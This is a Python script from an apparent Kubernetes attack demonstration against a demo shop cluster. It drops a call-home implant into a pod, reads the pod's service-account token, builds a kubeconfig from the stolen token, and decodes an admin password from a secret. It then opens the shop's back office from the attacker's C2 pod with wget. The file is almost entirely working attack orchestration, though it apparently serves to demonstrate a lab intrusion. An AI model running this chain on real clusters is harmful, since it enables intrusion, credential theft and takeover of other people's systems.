"""The attack: an implant that calls home, a stolen token, and a password read with it."""

import json
from dataclasses import dataclass, field
from pathlib import Path

from cluster.waiting import wait_until
from demo.shop import ATTACKER, SHOP, Shop, beacons
from demo.story import Story

IMPLANT = "/tmp/.x"  # noqa: S108 - in the attacked pod
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - the path at which every pod has its token
MASK = "****"


@dataclass(frozen=True)
class Loot:
    """What the attacker has now: a foothold in a pod, and two things that work from anywhere."""

    pod: str
    token: str = field(repr=False)
    password: str = field(repr=False)
    kubeconfig: Path


def carry_out(story: Story, shop: Shop, scratch: Path) -> Loot:
    """Break in. Every command runs as shown; only the stolen values are masked."""
    pod = shop.pods[0]
    story.tell(
        f"Say that the shop's code has a hole which lets a stranger run commands in {pod}. Here `kubectl exec` plays "
        "that web shell. First an implant is dropped; it keeps a connection to its master open and calls home over it:"
    )
    story.run(f"kubectl exec -i -n {SHOP} {pod} -- sh -c 'cat >{IMPLANT}; chmod +x {IMPLANT}' <demo/implant.sh")
    story.run(f"kubectl exec -n {SHOP} {pod} -- sh -c '{IMPLANT} {shop.c2} >/dev/null 2>&1 &'")
    wait_until(lambda: len(beacons(story)) > 5, timeout=20, otherwise="the implant did not reach its master")  # noqa: PLR2004 - a handful
    story.tell("What its master hears:")
    story.run(f"kubectl logs -n {ATTACKER} c2 --tail=3")
    story.tell("Then the pod's own token is stolen. It works from anywhere, and this account may read secrets:")
    token = _steal_token(story, pod)
    kubeconfig = _kubeconfig_with(story, token, scratch)
    story.environment = {**story.environment, "STOLEN": str(kubeconfig)}
    story.run(f'kubectl --kubeconfig "$STOLEN" get secrets -n {SHOP}')
    password = _steal_password(story)
    story.tell("With the password out of that secret the shop's back office opens, from the attacker's server:")
    story.run(admin_page(shop, password))
    return Loot(pod, token, password, kubeconfig)


def admin_page(shop: Shop, password: str) -> str:
    """The command that opens the back office from the attacker's server."""
    return f"kubectl exec -n {ATTACKER} c2 -- wget -q -O - http://admin:{password}@{shop.address}/admin/"


def _steal_token(story: Story, pod: str) -> str:
    command = f"kubectl exec -n {SHOP} {pod} -- cat {TOKEN}"
    token = story.run(command, quiet=True).strip()
    story.hidden[token] = MASK
    story.show([f"{token[:12]}... ({len(token)} characters)"])
    return token


def _steal_password(story: Story) -> str:
    get = f'kubectl --kubeconfig "$STOLEN" get secret admin -n {SHOP}'
    password = story.run(f"{get} -o jsonpath='{{.data.password}}' | base64 -d", quiet=True)
    story.hidden[password] = MASK
    story.show([f"{password[:2]}... ({len(password)} characters)"])
    return password


def _kubeconfig_with(story: Story, token: str, scratch: Path) -> Path:
    """The attacker's own kubeconfig: the API server's address, and nothing to be somebody with but the stolen token."""
    ours = json.loads(story.ask("kubectl config view --minify --raw -o json"))
    cluster = {"name": "cluster", "cluster": ours["clusters"][0]["cluster"]}
    user = {"name": "stolen", "user": {"token": token}}
    context = {"name": "stolen", "context": {"cluster": "cluster", "user": "stolen"}}
    theirs = {"apiVersion": "v1", "kind": "Config", "clusters": [cluster], "users": [user], "contexts": [context]}
    path = scratch / "stolen-kubeconfig"
    path.touch(mode=0o600)
    path.write_text(json.dumps({**theirs, "current-context": "stolen"}))
    return path
